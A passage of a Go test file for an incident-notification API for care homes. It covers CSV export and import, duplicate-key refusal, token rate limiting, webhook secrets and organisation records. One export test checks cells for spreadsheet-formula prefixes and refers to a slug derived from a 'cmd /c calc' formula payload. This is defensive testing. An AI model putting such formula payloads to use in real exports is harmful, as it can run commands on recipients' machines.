	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, out)
	}
	if got := strings.Join(recs[0], ","); got != "email,phone,name,organisation,components,role,webhook_url,teams_url,slack_url,email_state,sms_state" {
		t.Errorf("export header %s", got)
	}
	if len(recs) != 4 {
		t.Fatalf("export has %d rows, want a header and 3:\n%s", len(recs), out)
	}
	if !slices.Contains(recs[3], "https://hooks.riverside.example/teams?sig=x") {
		t.Errorf("the Teams destination is not exported: %q", recs[3])
	}
	for _, r := range recs {
		for _, c := range r {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") && !regexp.MustCompile(`^\+[0-9]+$`).MatchString(c) {
				t.Errorf("exported cell %q would run as a formula", c)
			}
		}
	}
	// The organisation column holds the home's key, a slug: never a formula.
	if r := recs[1]; r[1] != "+447400123451" || r[2] != "'"+formulas[0] || r[3] != "cmd-c-calc-a0" || r[4] != "capa;emar" || r[5] != "primary" || r[9] != "confirmed" || r[10] != "confirmed" {
		t.Errorf("first row %q", r)
	}
	if r := recs[2]; r[9] != "confirmed" || r[10] != "" {
		t.Errorf("a subscriber without a phone: states %q, %q", r[9], r[10])
	}
	// Round trip.
	b2 := setup(t)
	importCSV(b2, out)
	if again := export(b2); again != out {
		t.Errorf("export of the re-imported export differs:\n%s\nwas\n%s", again, out)
	}
}

// TestDuplicateKeysAreRefused: a JSON body holding one key twice (which
// encoding/json would read as the last) is refused with 400 naming it,
// for events and for the rest of the API.
func TestDuplicateKeysAreRefused(t *testing.T) {
	t.Parallel()
	b := setup(t)
	body := strings.Replace(firstUpdate(t, ""), `"impact":"major"`, `"impact":"major","impact":"none"`, 1)
	if !strings.Contains(body, `"impact":"none"`) {
		t.Fatalf("the test event has no impact to repeat: %s", body)
	}
	for path, body := range map[string]string{
		"/v1/events":      body,
		"/v1/subscribers": `{"email":"a@example.org","components":["emar"],"email":"b@example.org"}`,
	} {
		a := b.call(t, "POST", path, body)
		expectStatus(t, a, http.StatusBadRequest)
		if m := a.json(t); m["field"] == nil || !strings.Contains(a.String(), "more than once") {
			t.Errorf("POST %s: %s, want the repeated key named", path, a.body)
		}
	}
}

// TestWrongTokensAreLimited: after 20 wrong bearer tokens from one address
// the API answers 429 with Retry-After rather than 401, and the admin page
// likewise for wrong session cookies; the right token still works.
func TestWrongTokensAreLimited(t *testing.T) {
	t.Parallel()
	b := setup(t)
	var codes []int
	for range 25 {
		a := b.request(t, "GET", "/v1/components", nil, "Authorization", "Bearer wrong-"+apiToken)
		codes = append(codes, a.status)
		if a.status == http.StatusTooManyRequests && a.header.Get("Retry-After") == "" {
			t.Error("429 without Retry-After")
		}
	}
	if codes[19] != http.StatusUnauthorized || codes[20] != http.StatusTooManyRequests || codes[24] != http.StatusTooManyRequests {
		t.Errorf("answers to 25 wrong tokens: %v; want 20 times 401, then 429", codes)
	}
	expectStatus(t, b.call(t, "GET", "/v1/components", ""), http.StatusOK)
	a := b.request(t, "GET", "/admin", nil, "Cookie", "crier_admin=forged")
	expectStatus(t, a, http.StatusTooManyRequests)
	// Without credentials nothing is guessed, so nothing is counted.
	expectStatus(t, b.request(t, "GET", "/v1/components", nil), http.StatusUnauthorized)
}

// TestImportWebhookDestination: an imported row with a webhook_url
// creates the destination, and the import's answer carries its secret
// (the only time it is shown); importing the file again updates the
// subscriber instead of creating a second one, and shows no secret.
func TestImportWebhookDestination(t *testing.T) {
	t.Parallel()
	b := setup(t)
	body := "email,phone,name,organisation,components,webhook_url\n" +
		",,Oakview systems,Oakview Care,emar,https://hooks.oakview.example/crier\n" +
		",,Bad,Oakview Care,emar,http://hooks.oakview.example/crier\n"
	post := func() map[string]any {
		a := b.request(t, "POST", "/v1/subscribers/import", strings.NewReader(body), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
		expectStatus(t, a, http.StatusOK)
		return a.json(t)
	}
	m := post()
	secrets, _ := m["webhook_secrets"].([]any)
	if m["created"] != 1.0 || m["refused"] != 1.0 || len(secrets) != 1 {
		t.Fatalf("import answered %v", m)
	}
	if s := secrets[0].(map[string]any); s["line"] != 2.0 || !strings.HasPrefix(s["webhook_secret"].(string), "whsec_") {
		t.Errorf("secret %v", s)
	}
	var stored string
	if err := b.store.Pool().QueryRow(context.Background(), `SELECT webhook_secret FROM subscribers WHERE webhook_url = 'https://hooks.oakview.example/crier'`).Scan(&stored); err != nil || stored != secrets[0].(map[string]any)["webhook_secret"] {
		t.Errorf("stored secret %q (%v)", stored, err)
	}
	if again := post(); again["created"] != 0.0 || again["updated"] != 1.0 || again["webhook_secrets"] != nil {
		t.Errorf("the same file again: %v", again)
	}
}

// TestComponentRunbook: PUT sets guidance, recovery and actions, GET shows
// them, and bad ones are refused naming the field.
func TestComponentRunbook(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.call(t, "PUT", "/v1/components/emar", `{"name": "eMar", "guidance": "Use paper MAR charts.\nPrint today's MAR from the eMar backup laptop.",
		"recovery": "Enter the doses given on paper into eMar before the next round.", "actions": ["Using paper MAR charts", " Using paper MAR charts ", "Printed the MAR"]}`)
	expectStatus(t, a, http.StatusOK)
	m := a.json(t)
	if m["guidance"] != "Use paper MAR charts.\nPrint today's MAR from the eMar backup laptop." || fmt.Sprint(m["actions"]) != "[Using paper MAR charts Printed the MAR]" {
		t.Errorf("PUT answered %s", a.body)
	}
	a = b.call(t, "GET", "/v1/components", "")
	if !strings.Contains(string(a.body), "Enter the doses given on paper") {
		t.Errorf("GET /v1/components lacks the recovery: %s", a.body)
	}
	for body, field := range map[string]string{
		`{"name": "eMar", "guidance": "` + strings.Repeat("x", 2001) + `"}`:            "guidance",
		`{"name": "eMar", "recovery": "a\u0007b"}`:                                     "recovery",
		`{"name": "eMar", "actions": ["one\ntwo"]}`:                                    "actions",
		`{"name": "eMar", "actions": ["1","2","3","4","5","6","7","8","9","10","11"]}`: "actions",
	} {
		expectError(t, b.call(t, "PUT", "/v1/components/emar", body), http.StatusUnprocessableEntity, field)
	}
}

// TestOrganisations: a home is created, its contacts join it by key or by
// name with a role, it is listed with them, changed, and deleted, its
// contacts staying as homes of one.
func TestOrganisations(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.call(t, "POST", "/v1/organisations", `{"key": "oakview", "name": "Oakview Care Home", "phone": "0121 234 5678"}`)
	expectStatus(t, a, http.StatusCreated)
	if m := a.json(t); m["phone"] != "+441212345678" || m["contacts"] != 0.0 {
		t.Errorf("created %s", a.body)
	}
	expectError(t, b.call(t, "POST", "/v1/organisations", `{"key": "oakview", "name": "Again"}`), http.StatusConflict, "key")
	expectError(t, b.call(t, "POST", "/v1/organisations", `{"key": "Oak View", "name": "x"}`), http.StatusUnprocessableEntity, "key")
	expectError(t, b.call(t, "POST", "/v1/organisations", `{"key": "x", "name": ""}`), http.StatusUnprocessableEntity, "name")
	expectError(t, b.call(t, "POST", "/v1/organisations", `{"key": "x", "name": "X", "phone": "12"}`), http.StatusUnprocessableEntity, "phone")

	expectStatus(t, b.call(t, "POST", "/v1/subscribers", `{"email": "manager@oakview.example", "components": ["emar"], "organisation": "oakview"}`), http.StatusCreated)
	a = b.call(t, "POST", "/v1/subscribers", `{"email": "owner@oakview.example", "components": ["emar"], "organisation": "oakview care home", "role": "escalation"}`)
	expectStatus(t, a, http.StatusCreated)
	if m := a.json(t); m["organisation"] != "oakview" || m["role"] != "escalation" {
		t.Errorf("joined by name: %s", a.body)
	}
	expectError(t, b.call(t, "POST", "/v1/subscribers", `{"email": "x@oakview.example", "components": ["emar"], "role": "boss"}`), http.StatusUnprocessableEntity, "role")

	a = b.call(t, "GET", "/v1/organisations/oakview", "")
	expectStatus(t, a, http.StatusOK)
	var v struct {
		Contacts    int
		ContactList []struct{ Role string } `json:"contact_list"`
	}
	if err := json.Unmarshal(a.body, &v); err != nil || v.Contacts != 2 || len(v.ContactList) != 2 || v.ContactList[0].Role != "primary" || v.ContactList[1].Role != "escalation" {
		t.Errorf("GET organisation: %s", a.body)
	}
	expectStatus(t, b.call(t, "PATCH", "/v1/organisations/oakview", `{"name": "Oakview", "phone": ""}`), http.StatusOK)
	if m := b.call(t, "GET", "/v1/organisations", "").json(t); !strings.Contains(fmt.Sprint(m), "Oakview") || strings.Contains(fmt.Sprint(m), "+44121") {
		t.Errorf("list after PATCH: %v", m)
	}
	expectStatus(t, b.call(t, "DELETE", "/v1/organisations/oakview", ""), http.StatusNoContent)
	expectError(t, b.call(t, "GET", "/v1/organisations/oakview", ""), http.StatusNotFound, "")
	subs, _ := b.store.ListSubscribers(context.Background(), 0, 10)
	if len(subs) != 2 || subs[0].Organisation != "" || subs[1].Organisation != "" {
		t.Errorf("contacts after the home went: %+v", subs)
	}
}
